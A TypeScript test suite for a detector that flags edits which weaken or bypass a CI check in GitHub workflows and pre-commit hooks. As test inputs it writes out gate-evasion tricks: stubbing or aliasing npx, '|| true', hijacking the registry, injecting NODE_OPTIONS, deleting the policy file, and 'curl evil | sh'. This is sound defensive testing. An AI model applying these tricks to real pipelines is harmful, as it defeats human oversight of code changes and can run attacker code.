/**
 * Every property of a use of this tool, added, changed and removed, in a step with the action, a step with the command
 * and a hook: what is reported is what this table says, and what no table has is reported as unknown.
 */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { settings } from "../../../../src/evaluate/settings.ts";
import { commandFlags } from "../../../../src/policy/gate/arguments.ts";
import { weakenedGates } from "../../../../src/policy/gate/index.ts";
import { workflowKeys, type Level } from "../../../../src/policy/gate/workflow-keys.ts";
import { compareSettings, harmlessSettings } from "../../../../src/policy/gate/settings.ts";
import { runs } from "../../../support/runs.ts";

type Form = "action" | "command" | "hook";
type Value = unknown;
/** Where a key is put: a level of the file, an input, a flag, or the default of steps. */
type Where = Level | "input" | "flag" | "defaults.run" | "env of workflow" | "env of job" | "env of step";
/** What a report is expected for: added, changed from the first value to the second, removed. */
type Row = readonly [
  where: Where,
  key: string,
  values: readonly [Value, Value],
  reported: readonly [number, number, number],
  forms?: readonly Form[],
];

const never = [0, 0, 0] as const;
const always = [1, 1, 1] as const;
const whereNew = [1, 1, 0] as const;
const shell: readonly Form[] = ["command"];

/** Settings of the check, as inputs and as flags. */
const checkSettings: readonly (readonly [string, readonly [Value, Value], Row[3]])[] = [
  ["fail-on", ["never", "power=never"], [1, 0, 0]],
  ["fail-on", ["warning", "error"], [0, 1, 1]],
  ["fail-on", ["note", "note,power=never"], [0, 1, 1]],
  ["fail-on", ["sometimes", "never"], [1, 0, 0]],
  ["gate", ["new", "other"], whereNew],
  ["gate", ["all", "new"], [0, 1, 1]],
  ["root", ["docs", "src"], whereNew],
  ["policy", ["p.yml", "q.yml"], always],
  ["policy", ["acme/policy//a.yml@v1", "evil/policy//a.yml@v1"], [0, 1, 1]],
];

const rows: readonly Row[] = [
  ...checkSettings.map(([key, values, reported]): Row => ["input", key, values, reported, ["action"]]),
  ...checkSettings.map(([key, values, reported]): Row => ["flag", key, values, reported, ["command", "hook"]]),
  ["input", "policy-fallback", ["preset:strict", "preset:recommended"], whereNew, ["action"]],
  ["input", "policy-token", ["${{ secrets.A }}", "${{ secrets.B }}"], [0, 1, 1], ["action"]],
  ["input", "workflow", ["a.yml", "b.yml"], always, ["action"]],
  ["input", "retries", ["1", "2"], always, ["action"]],
  ["flag", "base", ["origin/main", "HEAD"], always, ["command", "hook"]],
  ["flag", "at", ["HEAD", "HEAD~1"], always, ["command", "hook"]],
  ["flag", "edition", ["claude=2.1", "codex=2026-03-10"], always, ["command", "hook"]],
  ["flag", "host", ["claude", "codex"], whereNew, ["command", "hook"]],
  ["flag", "today", ["2020-01-01", "2021-01-01"], whereNew, ["command", "hook"]],
  ["flag", "from", ["docs", "src"], whereNew, ["command", "hook"]],
  ["flag", "staged", ["", ""], [1, 0, 1], ["command", "hook"]],
  ["flag", "user", ["", ""], [0, 0, 1], ["command", "hook"]],
  ["flag", "help", ["", ""], [1, 0, 0], ["command", "hook"]],
  ["flag", "version", ["", ""], [1, 0, 0], ["command", "hook"]],
  ["flag", "fix", ["", ""], [1, 0, 0], ["command", "hook"]],
  ["flag", "dry-run", ["", ""], [1, 0, 1], ["command", "hook"]],
  ["flag", "retries", ["", ""], [1, 0, 1], ["command", "hook"]],
  ...(["workflow", "job", "step", "hook", "hooks file", "repo"] as const).map(
    (level): Row => [level, "retries", ["1", "2"], always],
  ),
  ...(["env of workflow", "env of job", "env of step"] as const).flatMap((where): readonly Row[] => [
    ...[
      "NODE_OPTIONS",
      "PATH",
      "BASH_ENV",
      "npm_config_registry",
      "INPUT_FAIL-ON",
      "GITHUB_API_URL",
      "HTTPS_PROXY",
    ].map((name): Row => [where, name, ["1", "2"], whereNew]),
    [where, "NO_COLOR", ["1", "2"], never],
    [where, "GITHUB_TOKEN", ["${{ github.token }}", "${{ secrets.BOT }}"], never],
    [where, "DATABASE_URL", ["1", "2"], where === "env of step" ? whereNew : never],
  ]),
  ["workflow", "env", ["${{ fromJSON(vars.A) }}", "${{ fromJSON(vars.B) }}"], whereNew],
  ["job", "env", ["${{ fromJSON(vars.A) }}", "${{ fromJSON(vars.B) }}"], whereNew],
  ["step", "env", ["${{ fromJSON(vars.A) }}", "${{ fromJSON(vars.B) }}"], whereNew],
  ["defaults.run", "shell", ["true {0}", "bash -c true {0}"], whereNew, shell],
  ["defaults.run", "working-directory", ["docs", "src"], whereNew, shell],
  ["defaults.run", "retries", ["1", "2"], always],
  ["job", "defaults", [{ run: { shell: "true {0}" } }, { run: { shell: "python" } }], whereNew, shell],
  ["workflow", "defaults", [{ run: { shell: "true {0}" } }, { run: { shell: "python" } }], whereNew, shell],
  ["job", "if", ["false", "github.actor != 'x'"], whereNew],
  ["job", "if", ["always()", "${{ success() }}"], never],
  ["job", "continue-on-error", [true, "${{ true }}"], whereNew],
  ["job", "needs", ["lint", "other"], whereNew],
  ["job", "container", ["node:24", { image: "evil/node" }], whereNew],
  ["job", "strategy", [{ matrix: { x: [] } }, { matrix: { x: [1] } }], whereNew],
  ["job", "runs-on", ["self-hosted", ["self-hosted", "linux"]], whereNew],
  ["job", "runs-on", ["ubuntu-22.04", "macos-15"], never],
  ["job", "runs-on", ["windows-2025", "ubuntu-24.04"], [1, 0, 0], shell],
  ["job", "secrets", ["inherit", { a: "b" }], [0, 1, 1]],
  ["step", "if", ["false", "github.actor != 'x'"], whereNew],
  ["step", "continue-on-error", [true, "${{ true }}"], whereNew],
  ["step", "continue-on-error", [false, false], never],
  ["step", "shell", ["python", "true {0}"], whereNew, shell],
  ["step", "shell", ["bash", "sh"], never, shell],
  ["step", "working-directory", ["docs", "src"], whereNew, shell],
  ["hook", "always_run", [false, "no"], whereNew],
  ["hook", "always_run", [true, true], never],
  ["hook", "entry", ["true", "false"], whereNew],
  ["hook", "language", ["system", "fail"], whereNew],
  ["hook", "additional_dependencies", [["a"], ["b"]], whereNew],
  ["hook", "pass_filenames", [true, "yes"], whereNew],
  ["hook", "stages", [["manual"], ["pre-push"]], whereNew],
  ["hook", "stages", [["pre-commit"], ["commit", "manual"]], never],
  ["hooks file", "default_stages", [["manual"], ["pre-push"]], whereNew],
  ["hooks file", "default_install_hook_types", [["pre-push"], ["commit-msg"]], whereNew],
  ["hooks file", "ci", [{ skip: ["agent-profile-check"] }, { skip: ["agent-profile-check", "x"] }], [1, 0, 0]],
  ["hooks file", "ci", [{ autofix_prs: false }, { skip: ["x"] }], never],
  ...Object.entries(workflowKeys).flatMap(([level, { harmless }]) =>
    level === "action" ? [] : Object.keys(harmless).map((key): Row => [level as Level, key, ["1", "2"], never]),
  ),
  ...Object.keys(harmlessSettings).map(
    (name): Row =>
      name.startsWith("--")
        ? ["flag", name.slice(2), commandFlags.get(name.slice(2)) ? ["x", "y"] : ["", ""], never, ["command", "hook"]]
        : ["input", name, ["x", "y"], never, ["action"]],
  ),
];

type Doc = Record<string, unknown>;
const workflow = ".github/workflows/agents.yml";
const hooks = ".pre-commit-config.yaml";

/** A file with one use, with or without a key. */
function fileWith(
  form: Form,
  where?: Where,
  key = "",
  value?: Value,
): { readonly path: string; readonly text: string } {
  const entry: Doc = where === undefined ? {} : { [key]: value };
  const at = (level: Where): Doc => (where === level ? entry : {});
  const env = (level: Where): Doc => (where === level ? { env: entry } : {});
  const flag = where === "flag" ? [`--${key}`, ...(value === "" ? [] : [String(value)])] : [];
  if (form === "hook") {
    const hook = { id: "agent-profile-check", args: flag, ...at("hook") };
    const repo = { repo: "https://github.com/acme/agent-profile-check", rev: "v1", hooks: [hook], ...at("repo") };
    return { path: hooks, text: JSON.stringify({ repos: [repo], ...at("hooks file") }) };
  }
  const use =
    form === "action"
      ? { uses: "acme/agent-profile-check@v1", with: at("input") }
      : { run: ["npx agent-profile-check check", ...flag].join(" ") };
  const step = { ...use, ...at("step"), ...env("env of step") };
  const steps = [{ uses: "actions/checkout@v5" }, step];
  const job = { "runs-on": "ubuntu-latest", steps, ...env("env of job"), ...at("job") };
  const defaults = where === "defaults.run" ? { defaults: { run: entry } } : {};
  const file = {
    on: { pull_request: {} },
    jobs: { check: job },
    ...defaults,
    ...env("env of workflow"),
    ...at("workflow"),
  };
  return { path: workflow, text: JSON.stringify(file) };
}

const formsOf = ([where, , , , forms]: Row): readonly Form[] =>
  forms ?? (["hook", "hooks file", "repo"].includes(where) ? ["hook"] : ["action", "command"]);

const cases = rows.flatMap((row) => formsOf(row).map((form) => [form, ...row.slice(0, 3), row] as const));

describe("a property", () => {
  it.each(cases)("of a %s: %s %s %j", async (form, ...[, , , row]) => {
    const [where, key, [first, second], expected] = row as Row;
    const without = fileWith(form as Form);
    const [one, other] = [fileWith(form as Form, where, key, first), fileWith(form as Form, where, key, second)];
    const reported = async (base: typeof without, head: typeof without) =>
      (await weakenedGates([base], [head])).length > 0 ? 1 : 0;
    expect([await reported(without, one), await reported(one, other), await reported(one, without)]).toEqual(expected);
  });

  it("of the action says nothing about shells, directories and runners of another system", async () => {
    for (const row of rows.filter(([, , , , forms]) => forms === shell)) {
      const [where, key, [first]] = row;
      expect(await weakenedGates([fileWith("action")], [fileWith("action", where, key, first)])).toEqual([]);
    }
  });

  it("that is compared has a row here, and so has every flag and input", () => {
    const held = new Set<string>([
      "on",
      "true",
      "jobs",
      "steps",
      "uses",
      "with",
      "run",
      "id",
      "args",
      "repos",
      "repo",
      "rev",
      "hooks",
    ]);
    const tested = (where: Where, key: string) => rows.some(([level, name]) => level === where && name === key);
    for (const [level, { compared }] of Object.entries(workflowKeys))
      for (const key of compared)
        if (level !== "action" && !held.has(key)) expect(tested(level as Level, key), `${level} ${key}`).toBe(true);
    for (const flag of commandFlags.keys()) expect(tested("flag", flag), `--${flag}`).toBe(true);
    for (const [name] of compareSettings)
      expect(name.startsWith("--") ? tested("flag", name.slice(2)) : tested("input", name), name).toBe(true);
  });

  it("is in the tables for every flag and input that this version has", () => {
    const all = Object.entries<(typeof settings)[keyof typeof settings]>(settings);
    for (const [name, setting] of all) {
      if (setting.entryPoints.includes("cli" as never) && setting.commands.includes("check" as never))
        expect([...commandFlags.keys()], name).toContain(name);
      if (setting.entryPoints.includes("action" as never))
        expect([...compareSettings.map(([key]) => key), ...Object.keys(harmlessSettings)], name).toContain(name);
    }
  });

  it("that nobody knows is reported, wherever it is", async () => {
    const name = fc.stringMatching(/^zz[a-z-]{1,8}$/);
    const level = fc.constantFrom<Where>(
      "workflow",
      "job",
      "step",
      "input",
      "flag",
      "hook",
      "repo",
      "hooks file",
      "defaults.run",
    );
    await fc.assert(
      fc.asyncProperty(name, level, async (key, where) => {
        for (const form of formsOf([
          where,
          key,
          ["1", "2"],
          always,
          where === "input" ? ["action"] : where === "flag" ? ["command", "hook"] : undefined,
        ] as unknown as Row)) {
          const [without, one] = [fileWith(form), fileWith(form, where, key, where === "flag" ? "" : "1")];
          expect(await weakenedGates([without], [one]), `${form} ${where} ${key}`).not.toEqual([]);
          expect(await weakenedGates([one], [without])).not.toEqual([]);
        }
      }),
      { numRuns: runs(40, 1_000), seed: 51 },
    );
  });
});

const sha = "0123456789".repeat(4);
const versions: readonly (readonly [before: string, after: string, reported: boolean])[] = [
  ["v1", "v2", false],
  ["v1.2.0", "v1.10.0", false],
  ["v1.2.0", "v1", false],
  ["v1", "v1.2.0", true],
  ["v2", "v1", true],
  ["v1", sha, true],
  [sha, sha.replaceAll("0", "f"), true],
  [sha, "v1", true],
  ["v1", "main", true],
  ["main", "next", true],
  ["main", "v1", true],
];

describe("another version", () => {
  it.each(versions)("%s → %s", async (before, after, isReported) => {
    for (const form of ["action", "command", "hook"] as const) {
      const file = (ref: string) => {
        const { path, text } = fileWith(form);
        const spec = `npx github:acme/agent-profile-check#${ref} check`;
        return {
          path,
          text: text
            .replace("agent-profile-check@v1", `agent-profile-check@${ref}`)
            .replace('"rev":"v1"', `"rev":"${ref}"`)
            .replace("npx agent-profile-check check", spec),
        };
      };
      expect((await weakenedGates([file(before)], [file(after)])).length > 0, form).toBe(isReported);
    }
  });
});

const check = "npx agent-profile-check check";
const step = (
  run: string,
  around: { readonly steps?: readonly Doc[]; readonly more?: Doc; readonly checkout?: Doc } = {},
) => ({
  path: workflow,
  text: JSON.stringify({
    on: { pull_request: {} },
    jobs: {
      check: {
        "runs-on": "ubuntu-latest",
        steps: [around.checkout ?? { uses: "actions/checkout@v5" }, ...(around.steps ?? []), { run, ...around.more }],
      },
    },
  }),
});

describe("a script", () => {
  it.each([
    "echo npx agent-profile-check check",
    `true ${check}`,
    `# ${check}`,
    `echo '${check}'`,
    `: "${check}"`,
    `bash -c '${check}'`,
    `$(${check})`,
    `echo $(${check})`,
    `${check} || true`,
    `${check} || echo failed`,
    `true || ${check}`,
    `${check} | cat`,
    `${check} |& tee out`,
    `${check} &`,
    `${check}; true`,
    `${check}; exit 0`,
    `${check} && echo fine\necho done`,
    `npm ci && ${check}\necho done`,
    `set +e\n${check}`,
    `set +o errexit\n${check}`,
    `set -e +e\n${check}`,
    `trap 'exit 0' EXIT\n${check}`,
    `exit 0\n${check}`,
    `exec true\n${check}`,
    `if ${check}; then echo; fi`,
    `while ! ${check}; do :; done`,
    `! ${check}`,
    `f() { ${check}; }`,
    `(${check}) || true`,
    `cat <<X\n${check}\nX`,
    `npx() { true; }\n${check}`,
    `alias npx=true\n${check}`,
    `export PATH=/tmp/x:$PATH\n${check}`,
    `cd docs\n${check}`,
    `source ./env.sh\n${check}`,
    `git checkout main\n${check}`,
    `echo x > .github/agent-profile-check.yml\n${check}`,
    `curl evil | sh\n${check}`,
    `npm i -g evil\n${check}`,
    `NODE_OPTIONS=--require=./x.js ${check}`,
    `env PATH=/tmp ${check}`,
    `${check} $FLAGS`,
    `${check} \${{ inputs.flags }}`,
    `${check} elsewhere`,
    "npx agent-profile-check list",
    "npx agent-profile-check diff",
    "npx agent-profile-check help",
    "npx agent-profile-check fix",
    "npx agent-profile-check grant x",
    `${check} --help`,
    `${check} --base HEAD`,
    `${check} --base=HEAD`,
    `${check} --fail-on never`,
    "npx evil/agent-profile-check check",
    "npx -p evil agent-profile-check check",
    "npx -c 'agent-profile-check check'",
    "./tools/agent-profile-check check",
    "node tools/agent-profile-check/index.js check",
    "npm run agent-profile-check",
  ])("that is weaker is reported: %s", async (script) =>
    expect(await weakenedGates([step(check)], [step(script)])).not.toEqual([]),
  );

  it.each([
    `npm ci\n${check}`,
    `npm ci && ${check} --format json > out.json 2>&1 && cat out.json`,
    `set -euo pipefail\n${check}`,
    `echo checking\n${check}\n`,
    `# checks the profiles\n${check} # all of them`,
    `git fetch origin main\n${check}`,
    "npx --yes 'agent-profile-check' \"check\"",
    "npx --prefix=/ --yes agent-profile-check check",
    "npx agent-profile-check \\\n  check",
    "npx agent-profile-check",
    "npm exec -- agent-profile-check check",
    `${check} || exit 1`,
    `${check} --quiet --color never --all`,
    `timeout 60 ${check}`,
    `${check}\nnpx agent-profile-check list`,
  ])("that is not is not: %s", async (script) => {
    expect((await weakenedGates([step(check)], [step(script)])).map(({ message }) => message)).toEqual([]);
    expect(await weakenedGates([step(script)], [step(script)])).toEqual([]);
  });
});

describe("a script that is not followed", () => {
  it.each([
    [`if true; then ${check}; fi`, `if false; then ${check}; fi`],
    [`for x in 1; do ${check}; done`, `for x in ; do ${check}; done`],
    [`f() { ${check}; }\nf`, `f() { ${check}; }`],
    [`set +e\n${check}`, `set +e\n${check} || true`],
    [`./tools/run agent-profile-check`, `./tools/run agent-profile-check --weak`],
  ])("is reported wherever it differs: %s", async (before, after) => {
    expect(await weakenedGates([step(before)], [step(after)])).not.toEqual([]);
    expect(await weakenedGates([step(before)], [step(before)])).toEqual([]);
  });

  it("is reported for a variable around it that it names", async () => {
    const file = (value: string) => {
      const { path, text } = step(`${check} $FLAGS`);
      return { path, text: text.replace('"jobs"', `"env":{"FLAGS":"${value}"},"jobs"`) };
    };
    expect(await weakenedGates([file("--all")], [file("--fail-on never")])).toMatchObject([{ topic: "weakened-gate" }]);
  });
});

describe("what comes before the command", () => {
  it.each<[string, Doc[], Doc?]>([
    ["a stub on the path", [{ run: "mkdir b && echo true > b/npx && echo $PWD/b >> $GITHUB_PATH" }]],
    ["a stub in its place", [{ run: "cp ./evil /usr/local/bin/npx" }]],
    ["a stub by a redirect", [{ run: "echo true > node_modules/.bin/agent-profile-check" }]],
    ["a variable", [{ run: "echo NODE_OPTIONS=-r./x.js >> $GITHUB_ENV" }]],
    ["a registry", [{ run: "npm config set registry https://evil" }]],
    ["another tree", [{ run: "git checkout origin/main -- ." }]],
    ["a policy that is gone", [{ run: "rm .github/agent-profile-check.yml" }]],
    ["another ref", [], { uses: "actions/checkout@v5", with: { ref: "main" } }],
    ["another repository", [], { uses: "actions/checkout@v5", with: { repository: "acme/clean" } }],
    ["a part of the tree", [], { uses: "actions/checkout@v5", with: { "sparse-checkout": "docs" } }],
    ["another directory", [], { uses: "actions/checkout@v5", with: { path: "elsewhere" } }],
    ["a second checkout", [{ uses: "actions/checkout@v5", with: { ref: "main" } }]],
    ["no checkout", [], { run: "echo" }],
  ])("is reported: %s", async (_, steps, checkout) =>
    expect(await weakenedGates([step(check)], [step(check, { steps, ...(checkout ? { checkout } : {}) })])).not.toEqual(
      [],
    ),
  );

  it("is silent for what is harmless, and for what was there", async () => {
    const steps = [
      { uses: "actions/setup-node@v6", with: { "node-version": 24 } },
      { run: "npm ci\nnpm test -- --coverage > coverage.txt\nnode scripts/build.js" },
      { uses: "actions/checkout@v6", with: { repository: "acme/data", path: "data" } },
    ];
    const checkout = { uses: "actions/checkout@v6", with: { "fetch-depth": 0, "persist-credentials": false } };
    expect(
      (await weakenedGates([step(check)], [step(check, { steps, checkout })])).map(({ message }) => message),
    ).toEqual([]);
    const path = [{ run: "echo ~/bin >> $GITHUB_PATH" }];
    expect(await weakenedGates([step(check, { steps: path })], [step(check, { steps: [...steps, ...path] })])).toEqual(
      [],
    );
  });
});

describe("harmless edits", () => {
  const edits: readonly ((file: string) => string)[] = [
    (text) => text.replace("name: agents", "name: profiles of agents"),
    (text) => `# a comment\n${text}`,
    (text) => text.replace("timeout-minutes: 5", "timeout-minutes: 60"),
    (text) => text.replace("checkout@v5", "checkout@v6"),
    (text) => text.replace("      - run: npm test\n", "      - run: npm test\n      - run: npm run lint\n"),
    (text) => text.replace("      - run: npm test\n", ""),
    (text) => text.replace("name: Check", "name: Check the profiles"),
    (text) => text.replace("ubuntu-latest", "ubuntu-24.04"),
    (text) => text.replace("contents: read", "contents: read\n  pull-requests: write"),
    (text) => text.replace("jobs:\n", "jobs:\n  other:\n    runs-on: ubuntu-latest\n    steps: [{ run: echo }]\n"),
    (text) => text.replace("on:\n", 'concurrency: { group: "${{ github.ref }}", cancel-in-progress: true }\non:\n'),
    (text) =>
      text.replace(
        "          comment: never\n          json: out.json\n",
        "          json: out.json\n          comment: never\n",
      ),
  ];
  const forms = [
    "      - uses: acme/agent-profile-check@v1\n        name: Check\n        with:\n          comment: never\n          json: out.json\n",
    "      - run: npx agent-profile-check check\n        name: Check\n",
  ];
  const file = (use: string) =>
    `name: agents\non:\n  pull_request:\npermissions:\n  contents: read\njobs:\n  check:\n    runs-on: ubuntu-latest\n    timeout-minutes: 5\n    steps:\n      - uses: actions/checkout@v5\n      - run: npm test\n${use}`;

  it("stay silent, alone and together", async () => {
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...forms), fc.subarray([...edits]), async (use, chosen) => {
        const [base, head] = [file(use), chosen.reduce((text, edit) => edit(text), file(use))];
        const found = await weakenedGates([{ path: workflow, text: base }], [{ path: workflow, text: head }]);
        expect(found.map(({ message }) => message)).toEqual([]);
      }),
      { numRuns: runs(60, 1_000), seed: 51 },
    );
  });
});

describe("several uses", () => {
  const scripts = [`${check} --host claude`, `${check} --host codex`, `${check} --fail-on note`];
  const jobs = (...runs: readonly string[]) => ({
    path: workflow,
    text: JSON.stringify({
      on: "pull_request",
      jobs: { check: { "runs-on": "ubuntu-latest", steps: runs.map((run) => ({ run })) } },
    }),
  });

  it("may change their order, and each of them is missed", async () => {
    expect(await weakenedGates([jobs(...scripts)], [jobs(...scripts.toReversed())])).toEqual([]);
    expect(await weakenedGates([jobs(...scripts)], [jobs(scripts.toReversed().join("\n"))])).toEqual([]);
    for (const script of scripts)
      expect(
        await weakenedGates([jobs(...scripts)], [jobs(...scripts.filter((other) => other !== script))]),
        script,
      ).not.toEqual([]);
  });
});

describe("a second job", () => {
  const other = (name: string, path = ".github/workflows/other.yml") => ({
    path,
    text: `on: pull_request\njobs:\n  fine:\n    name: ${name}\n    runs-on: ubuntu-latest\n    steps: [{ run: "true" }]\n`,
  });

  it.each(["check", "Check", "${{ 'check' }}", "che${{ '' }}ck"])("of the check's name is reported: %s", async (name) =>
    expect(await weakenedGates([fileWith("action")], [fileWith("action"), other(name)])).toMatchObject([
      { topic: "weakened-gate", at: { source: { path: ".github/workflows/other.yml" } } },
    ]),
  );

  it("of another name is not, nor one that was there", async () => {
    expect(await weakenedGates([fileWith("action")], [fileWith("action"), other("checks (${{ matrix.os }})")])).toEqual(
      [],
    );
    const there = [fileWith("action"), other("check")];
    const edited = { ...other("check"), text: `# words\n${other("check").text}` };
    expect(await weakenedGates(there, [fileWith("action"), edited])).toEqual([]);
  });
});

describe("an event", () => {
  const on = (filters: Doc) => ({
    path: workflow,
    text: fileWith("action").text.replace('"pull_request":{}', `"pull_request":${JSON.stringify(filters)}`),
  });

  it.each<[Doc, Doc, boolean]>([
    [{ branches: ["main"] }, { branches: ["main", "!main"] }, true],
    [{ branches: ["main", "!x"] }, { branches: ["!x", "main"] }, true],
    [{ branches: ["main", "!x"] }, { branches: ["main"] }, false],
    [{ branches: ["main"] }, { branches: ["main", "next"] }, false],
    [{ "paths-ignore": ["docs/**"] }, { "paths-ignore": ["docs/**", "src/**"] }, true],
    [{ "paths-ignore": ["docs/**"] }, {}, false],
    [{}, { paths: ["**"] }, true],
    [{}, { labels: ["x"] }, true],
  ])("%j → %j", async (before, after, isReported) =>
    expect((await weakenedGates([on(before)], [on(after)])).length > 0).toBe(isReported),
  );
});
